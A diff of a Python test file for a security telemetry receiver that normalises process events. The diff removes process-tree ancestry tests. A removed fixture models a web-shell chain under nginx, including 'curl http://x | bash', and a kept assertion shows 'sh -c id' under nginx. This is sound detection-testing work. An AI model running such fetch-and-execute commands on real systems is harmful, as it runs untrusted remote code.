@@ -1,4 +1,4 @@
-"""Normalisation of every supported process-event shape, the process tree, and hostile input."""
+"""Normalisation of every supported process-event shape, and hostile input."""
 
 from __future__ import annotations
 
@@ -11,7 +11,7 @@ import pytest
 from opentelemetry.proto.common.v1.common_pb2 import KeyValue
 from opentelemetry.proto.logs.v1.logs_pb2 import LogRecord
 
-from otlp_receiver.normalize import Normalizer, ProcessTree
+from otlp_receiver.normalize import Normalizer
 from otlp_receiver.normalize.auditd import parse_line
 from otlp_receiver.normalize.normalizer import KINDS
 from otlp_receiver.normalize.values import MAX_ARGS, MAX_COMMAND_LINE
@@ -70,10 +70,7 @@ def test_falco_json_lines_as_filelog_ships_them() -> None:
     assert (event.executable_name, event.command_line, event.parent_name) == ("sh", "sh -c id", "nginx")
     assert event.user_id == 33 and event.pid == 4242 and event.parent_pid == 4200 and event.host == "web-1"
     assert event.executable_path == "/usr/bin/dash" and event.container_id == ""  # "host" is no container
-    assert event.ancestors == ("nginx", "systemd")
-    # The second alert's process is a child of the first: the tree links curl -> sh -> nginx (pids only
-    # go as far as events named them).
-    assert second.event.ancestors == ("sh", "nginx")
+    assert event.ancestors == ("nginx", "systemd")  # Falco's own proc.aname[]
     assert second.event.container_id == "3ad7b26ded6d"
 
 
@@ -149,33 +146,6 @@ def test_other_records_are_unrecognised_not_errors() -> None:
     assert normalizer.normalize("default", {}, LogRecord()).kind == "unrecognised"
     # Process keys without what scoring needs are invalid, not silently dropped.
     assert normalizer.normalize("default", {}, record("x", process__pid=5, process__command_line="")).kind == "invalid"
-
-
-def test_process_tree_sees_shell_under_nginx_through_sh_c() -> None:
-    normalizer = Normalizer()
-    events = [
-        agent_record("sh", "sh -c curl http://x | bash", 200, 100, parent="nginx"),
-        agent_record("curl", "curl http://x", 201, 200),
-        agent_record("bash", "bash", 202, 200),
-        agent_record("id", "id", 203, 202),
-    ]
-    ancestors = [normalizer.normalize("default", AGENT, e).event.ancestors for e in events]
-    assert ancestors == [("nginx",), ("sh", "nginx"), ("sh", "nginx"), ("bash", "sh", "nginx")]
-    # Another host with the same pids has its own tree.
-    other = normalizer.normalize("default", {**AGENT, "host.name": "web-2"}, events[3]).event
-    assert other.ancestors == ()
-
-
-def test_process_tree_is_bounded_and_survives_cycles() -> None:
-    tree = ProcessTree(max_processes=100, max_hosts=2)
-    for pid in range(1000):
-        tree.observe(("t", "h"), pid, "p", pid - 1, "")
-    assert tree.size(("t", "h")) == 100
-    tree.observe(("t", "h"), 5, "a", 6, "")
-    assert tree.observe(("t", "h"), 6, "b", 5, "") == ("a",)  # a cycle stops the walk
-    for host in ("x", "y", "z"):
-        tree.observe(("t", host), 1, "init", None, "")
-    assert tree.size(("t", "h")) == 0  # the least recently used host was evicted
 
 
 # -- hostile input ------------------------------------------------------------------------------------
